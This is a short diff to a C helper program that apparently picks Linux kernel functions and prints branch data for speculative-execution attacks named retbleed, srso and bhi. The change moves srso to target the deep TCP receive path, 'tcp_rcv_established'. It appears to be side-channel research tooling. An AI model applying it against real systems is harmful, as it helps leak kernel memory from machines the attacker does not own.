@@ -283,6 +283,8 @@ int main(int argc, char **argv)
 	static const char *const ioctl_functions[] = { "__x64_sys_ioctl" };
 	static const char *const trace_functions[] = { "bpf_trace_run2" };
 	static const char *const receive_functions[] = { "sock_recvmsg", "inet_recvmsg", "tcp_recvmsg", "tcp_recvmsg_locked" };
+	/* Receives the acknowledgement that receiving sends: most of the return stack is in use there. */
+	static const char *const deepest_functions[] = { "tcp_rcv_established" };
 	static const char *const operations[] = { "pipefifo_fops" };
 	const char *attack = argc == 2 ? argv[1] : "";
 	uint64_t address, end;
@@ -312,9 +314,12 @@ int main(int argc, char **argv)
 		print_branches(1, ioctl_functions, 0);
 		kernel_symbols(1, operations, &address, &end);
 		printf(" --slow %#lx", address);
-	} else if (!strcmp(attack, "retbleed") || !strcmp(attack, "srso")) {
+	} else if (!strcmp(attack, "retbleed")) {
 		load_disclosures();
 		print_branches(LENGTH(receive_functions), receive_functions, 1);
+	} else if (!strcmp(attack, "srso")) {
+		load_disclosures();
+		print_branches(1, deepest_functions, 1);
 	} else if (!strcmp(attack, "bhi")) {
 		load_bhi();
 		print_branches(1, trace_functions, 0);
